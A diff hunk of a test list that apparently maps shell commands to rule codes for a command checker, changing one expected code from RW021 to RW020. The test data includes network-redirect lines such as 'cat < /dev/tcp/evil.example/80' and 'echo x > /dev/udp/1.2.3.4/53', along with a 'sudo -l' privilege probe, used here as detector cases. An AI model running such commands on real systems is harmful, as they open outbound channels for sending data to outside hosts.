@@ -180,7 +180,7 @@ WRITES = [
     ("cat < /dev/tcp/evil.example/80", "RW008"),
     ("echo x > /dev/udp/1.2.3.4/53", "RW008"),
     ("cat <> f", "RW001"),
-    ("wait -p x", "RW021"),
+    ("wait -p x", "RW020"),
     ("ls 2>&1-", "RW008"),
     ("sudo -l", "RW010"),
     ("exec ls", "RW011"),
